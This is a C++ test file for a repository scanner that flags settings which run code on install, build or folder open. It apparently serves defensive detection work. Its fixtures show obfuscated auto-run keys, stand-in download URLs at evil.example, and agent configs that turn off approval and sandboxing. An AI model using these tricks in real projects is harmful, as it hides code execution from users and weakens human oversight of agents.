// Triage, with the real tools: names of settings that are spelt so that nobody sees what they are, and names of files in another case.
#include <gmock/gmock.h>

#include "tests/subagents/playbook_repo.h"
#include "tests/subagents/triaged_folder.h"

namespace paddock::subagents {
namespace {

using testing::HasSubstr;
using testing::Not;

constexpr char kOnBuild[] = "runs on install or build";

TEST(PlaybookTriageHidden, KeysOfToml) {
  ExpectFound({
      {".cargo/config.toml", "[build]\n\"rustc\\u002dwrapper\" = \"./x.sh\"\n", "hides-letters"},
      {".cargo/config.toml", "[build]\n\"rustc\\U0000002dwrapper\" = \"./x.sh\"\n", "hides-letters"},
      {".cargo/config.toml", "[build]\n\"rustc\\x2dwrapper\" = \"./x.sh\"\n", "hides-letters"},
      {".cargo/config", "[build]\n\"rustc\\u002dwrapper\" = \"./x.sh\"\n", "hides-letters"},
      {".cargo/config.toml", "[build]\n'rustc-wrapper' = './x.sh'\n", "cargo-config"},
      {".cargo/config.toml", "build.\"rustc-wrapper\" = \"./x.sh\"\n", "cargo-config"},
      {".cargo/config.toml", "build . 'rustc-wrapper' = \"./x.sh\"\n", "cargo-config"},
      {".cargo/config.toml", "[ build ]\nrustc-wrapper = \"./x.sh\"\n", "cargo-config"},
      {".cargo/config.toml", "[\"build\"]\nrustc-wrapper = \"./x.sh\"\n", "cargo-config"},
      {".cargo/config.toml", "build = { \"rustc-wrapper\" = \"./x.sh\" }\n", "cargo-config"},
      {".cargo/config.toml", "\"b\\u0075ild\".'rustc-wrapper' = \"./x.sh\"\n", "cargo-config"},
      {"bunfig.toml", "\"pre\\u006coad\" = [\"./x.ts\"]\n", "hides-letters"},
      {".codex/config.toml", "approval_policy = 'never'\n", "agent-unbound"},
      {".codex/config.toml", "\"sandbox_mode\" = 'danger-full-access'\n", "agent-unbound"},
      {".codex/config.toml", "[mcp_servers.x]\n'command' = 'sh'\n", "agent-command"},
      {".codex/config.toml", "\"notif\\u0079\" = [\"./x\"]\n", "hides-letters"},
  });
}

TEST(PlaybookTriageHidden, KeysOfYaml) {
  ExpectFound({
      {".yarnrc.yml", "? yarnPath\n: ./x.cjs\n", "hidden-name"},
      {".yarnrc.yml", "?\n  yarnPath\n: ./x.cjs\n", "hidden-name"},
      {".yarnrc.yml", "\"yarn\\x50ath\": ./x.cjs\n", "hides-letters"},
      {".yarnrc.yml", "\"yarn\\u0050ath\": ./x.cjs\n", "hides-letters"},
      {".yarnrc.yml", "\"yarn\\U00000050ath\": ./x.cjs\n", "hides-letters"},
      {".yarnrc.yml", "a: &a yarnPath\n*a : ./x.cjs\n", "hidden-name"},
      {".yarnrc.yml", "{a: &a yarnPath, *a : ./x.cjs}\n", "hidden-name"},
      {".yarnrc.yml", "!!str yarnPath: ./x.cjs\n", "yarn-path"},
      {".yarnrc.yml", "&a yarnPath: ./x.cjs\n", "yarn-path"},
      {".yarnrc.yml", "! &a 'yarnPath' : ./x.cjs\n", "yarn-path"},
      {".yarnrc.yml", "{yarnPath: ./x.cjs}\n", "yarn-path"},
      {".yarnrc.yml", "{a: b, \"yarnPath\": ./x.cjs}\n", "yarn-path"},
      {".yarnrc.yml", "{\n  yarnPath\n  : ./x.cjs\n}\n", "hidden-name"},
      {".yarnrc.yml", "{\"yarn\\\n  Path\": ./x.cjs}\n", "hidden-name"},
      {".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - ? entry\n    : ./x.sh\n", "hidden-name"},
      {".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - {id: x, \"entr\\x79\": ./x.sh}\n", "hides-letters"},
      {"lefthook.yml", "pre-commit:\n  ? commands\n  : x\n", "hidden-name"},
      {".gitpod.yml", "tasks:\n  - ? init\n    : ./x.sh\n", "hidden-name"},
      {".aider.conf.yml", "? lint-cmd\n: ./x.sh\n", "hidden-name"},
  });
  const Report hooks = TriageOf({{".pre-commit-config.yaml", "repos: [{repo: local, hooks: [{id: x, entry: ./x.sh}]}]\n"}});
  EXPECT_THAT(hooks.data.dump(), HasSubstr("hook-config")) << Titles(hooks);
  const Report plugins = TriageOf({{".yarnrc.yml", "plugins:\n  - ./x.cjs\n"}});
  EXPECT_EQ(VerdictOf(plugins), "runs on install or build") << Titles(plugins);
}

TEST(PlaybookTriageHidden, KeysOfJson) {
  ExpectFound({
      {"package.json", "{\"scripts\":{\"preinst\\u0061ll\":\"touch x\"}}\n", "npm-script"},
      {"package.json", "{\n  \"scripts\": {\n    \"preinst\\u0061ll\"\n:\n\"touch x\"\n  }\n}\n", "npm-script"},
      {".vscode/settings.json", "{\"task\\u002eallowAutomaticTasks\": \"on\"}\n", "vscode-trust"},
      {".vscode/settings.json", "{\"git\\u002Epath\": \"./x\"}\n", "vscode-trust"},
      {".vscode/tasks.json", "{\"tasks\":[{\"run\\u004fn\":\"folderOpen\"}]}\n", "vscode-folder-open"},
      {".mcp.json", "{\"mcpServers\":{\"x\":{\"c\\u006fmmand\":\"sh\"}}}\n", "agent-command"},
      {".devcontainer/devcontainer.json", "{\"initi\\u0061lizeCommand\":\"touch x\"}\n", "devcontainer-host"},
      {".vscode/settings.json", "{\"terminal.integrated.env.linux\":{\"LD\\u005fPRELOAD\":\"./x.so\"}}\n", "loader-env"},
      {"composer.json", "{\"scripts\":{\"post\\u002dinstall-cmd\":\"touch x\"}}\n", "composer-script"},
      {".zed/settings.json", "{\"lsp\":{\"x\":{\"binary\":{\"p\\x61th\":\"./x\"}}}}\n", "hides-letters"},
      {"binding.gyp", "{'targets': [{'target_name': 'x', 'actions': [{'act' 'ion': ['sh', 'x']}]}]}\n", "hidden-name"},
      {"binding.gyp", "{'targets': [{'actions': [{\n'act\\x69on': ['sh', 'x']}]}]}\n", "hidden-name"},
  });
  EXPECT_THAT(TriageOf({{".vscode/settings.json", "{\"git\\u002Epath\": \"./x\"}\n"}}).data.dump(), HasSubstr("\"hides-letters\""));
}

TEST(PlaybookTriageHidden, KeysOfIniAndProperties) {
  ExpectFound({
      {".npmrc", "\"script-shell\" = ./x.sh\n", "npmrc-runs"},
      {".npmrc", "\"script\\u002dshell\" = ./x.sh\n", "hidden-name"},
      {".npmrc", "script-sh${NONE?}ell = ./x.sh\n", "hidden-name"},
      {".yarnrc", "\"yarn-path\" \"./x.js\"\n", "yarn-path"},
      {".yarnrc", "\"yarn\\u002dpath\" \"./x.js\"\n", "hides-letters"},
      {"pip.conf", "[global]\nIndex_URL: http://1.2.3.4/\n", "pip-index"},
      {"gradle.properties", "org.gradle.jvmargs=\\u002djavaagent:x.jar\n", "hides-letters"},
      {"gradle.properties", "org.gradle.jvmargs=-java\\agent:x.jar\n", "hidden-name"},
      {"gradle/wrapper/gradle-wrapper.properties", "distribution\\u0055rl=https\\://evil.example/x.zip\n", "hides-letters"},
      {"gradle/wrapper/gradle-wrapper.properties", "distribution\\Url=https\\://evil.example/x.zip\n", "hidden-name"},
      {"gradle/wrapper/gradle-wrapper.properties", "distributionUrl https\\://evil.example/x.zip\n", "wrapper-url"},
      {".mvn/jvm.config", "-java\"agent:x.jar\"\n", "hidden-name"},
      {".mvn/jvm.config", "@x.args\n", "jvm-agent"},
      {".git/config", "\xEF\xBB\xBF[core] fsmonitor = touch x\n", "git-fsmonitor"},
      {".git/config", "[CORE]\n\tFsMonitor = tou\\\nch x\n", "git-fsmonitor"},
  });
  ExpectFound({{".bazelrc", "build --workspace_sta\"tus_command\"=x\n", "hidden-name"}});
  ExpectFound({{"requirements.txt", "--ind http://evil.example/x\n", "pip-index", kOnBuild}, {"requirements.txt", "-ihttp://evil.example/x\n", "pip-index", kOnBuild}});
}

TEST(PlaybookTriageHidden, NamesOfXml) {
  ExpectFound({
      {"pom.xml", "<project><build><plugins><plugin><artifactId>exec&#45;maven-plugin</artifactId></plugin></plugins></build></project>\n", "hidden-name"},
      {"pom.xml", "<plugin>\n<artifactId>exec&#x2d;maven-plugin</artifactId>\n</plugin>\n", "hidden-name"},
      {"pom.xml", "<plugin>\n<artifactId>exec-<!-- x -->maven-plugin</artifactId>\n</plugin>\n", "hidden-name"},
      {"a.csproj", "<Project><Target Name=\"a\"><Exec Command=\"&#99;url x\"/></Target></Project>\n", "hidden-name"},
      {".idea/workspace.xml", "<component name=\"Project&#83;tartupSharedConfiguration\">\n", "hidden-name"},
  });
  ExpectFound({{"a.csproj", "<Target Name=\"a\">\n<exec\n command='x'/>\n</Target>\n", "msbuild-runs", kOnBuild}, {"build.xml", "<!DOCTYPE p [<!ENTITY x SYSTEM \"y.xml\">]>\n<project>&x;</project>\n", "xml-entity", kOnBuild}});
}

TEST(PlaybookTriageHidden, ProgramsInAnotherSpelling) {
  ExpectFound({
      {"setup.py", "# -*- coding: utf-7 -*-\nimport os\n", "hidden-name"},
      {".dir-locals.el", "((nil . ((ev\\al . (shell-command \"x\")))))\n", "hidden-name"},
      {".exrc", "exe 'sil' . 'ent' . '!touch x'\n", "vimrc"},
  });
  const Report report = TriageOf({{"Makefile", "X := ${shell touch x}\nall:\n\tcc x.c\n"}});
  EXPECT_EQ(WorstOf(report, "make-shell"), Severity::kMedium) << Titles(report);
  EXPECT_THAT(Titles(report), HasSubstr("`touch x`"));
}

TEST(PlaybookTriageHidden, OrdinarySettingsAreQuiet) {
  const Report report = TriageOf({
      {".yarnrc.yml", "nodeLinker: node-modules\nenableTelemetry: 0\npackageExtensions:\n  \"a@*\":\n    dependencies: {b: \"*\"}\n"},
      {".npmrc", "save-exact=true\n//registry.npm" "js.org/:_authToken=${NPM_TOKEN}\n//${HOST}/:_authToken=${NPM_TOKEN}\n"},
      {".github/workflows/ci.yml", "on: [push]\njobs:\n  a:\n    steps:\n    - run: |\n        : \"${X:=y}\"\n        case x in\n          *) echo \"\\x41: y\" ;;\n        esac\n"},
      {".gitlab-ci.yml", ".a: &a\n  script:\n    - echo\nb:\n  <<: *a\n  script:\n    - !reference [.a, script]\n"},
      {".cargo/config.toml", "[term]\nquiet = true\n"},
      {".vscode/settings.json", "{\n  \"a\": \"\\u001b[0m \\u003cb\\u003e \\u0026\"\n}\n"},
      {"docs/a.properties", "a=C:\\Users\n"},
  });
  EXPECT_EQ(VerdictOf(report), "nothing found that runs by itself") << Titles(report);
  EXPECT_TRUE(report.complete);
  EXPECT_THAT(report.data.dump(), Not(HasSubstr("hidden-name"))) << Titles(report);
}

TEST(PlaybookTriageHidden, NamesOfFilesInAnotherCase) {
  const struct {
    const char *path, *text, *label;
  } cases[] = {
      {".VSCODE/tasks.json", "{\"tasks\":[{\"runOn\"\n:\"folderOpen\"}]}\n", "vscode-folder-open"},
      {".vscode/TASKS.json", "{\"runOn\":\"folderOpen\"}\n", "vscode-folder-open"},
      {"PACKAGE.JSON", "{\"scripts\":{\"preinstall\":\"touch x\"}}\n", "npm-script"},
      {"pac\u212Aage.json", "{\"scripts\":{\"preinstall\":\"touch x\"}}\n", "npm-script"},
      {".GitHub/Workflows/a.yml", "on: pull_request_target\n", "ci-foreign-pull"},
      {".Envrc", "touch x\n", "envrc"},
      {"Setup.py", "setup()\n", "setup-py"},
      {".Cargo/Config.TOML", "[build]\nrustc-wrapper = \"./x\"\n", "cargo-config"},
      {"cmakelists.txt", "project(x)\n", "cmake"},
      {".CLAUDE/settings.json", "{\"hooks\":{\"SessionStart\":[]}}\n", "agent-hook"},
  };
  for (const auto& one : cases) {
    const Report report = TriageOf({{one.path, one.text}});
    EXPECT_THAT(report.data.dump(), HasSubstr(std::string("\"") + one.label + "\"")) << one.path << report.summary;
    EXPECT_THAT(Titles(report), HasSubstr("heeded where file names ignore case")) << one.path;
    EXPECT_EQ(report.findings.size(), 1u) << one.path << Titles(report);
  }
  EXPECT_EQ(VerdictOf(TriageOf({{".GIT/hooks/post-checkout", "#!/bin/sh\ntouch x\n"}})), "hostile signs");
  const Report as_is = TriageOf({{".vscode/tasks.json", "{\"runOn\":\"folderOpen\"}\n"}});
  EXPECT_THAT(Titles(as_is), Not(HasSubstr("ignore case")));
  TriagedFolder folder(std::map<std::string, std::string>{{"v/tasks.json", "{\"runOn\":\"folderOpen\"}\n"}});
  folder.Link(".VSCode", "v");
  EXPECT_THAT(folder.Triage().data.dump(), HasSubstr("vscode-folder-open"));
}

}  // namespace
}  // namespace paddock::subagents
